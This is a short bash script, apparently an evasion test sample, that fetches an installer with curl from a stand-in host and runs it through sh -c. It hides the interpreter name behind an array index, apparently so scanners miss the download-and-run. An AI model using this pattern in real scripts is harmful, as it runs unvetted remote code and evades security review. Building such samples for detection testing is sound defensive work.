#!/usr/bin/env bash
# Evasion: download and run code. The "interpreters" an installer may use
# are collected into an indexed array with += in a loop over a list of
# paths (${p##*/} keeps the program name); the index chosen at run time
# picks sh, which runs the downloaded installer given with -c.
set -eu
candidates="/usr/bin/python3 /usr/bin/node /bin/sh"
RUNNERS=()
for p in $candidates; do
    RUNNERS+=("${p##*/}")
done

pick=$(( $(date +%s) % ${#RUNNERS[@]} ))
pick=2
installer=$(curl -fsSL https://get.example-install.dev/installer)
"${RUNNERS[$pick]}" -c "$installer"
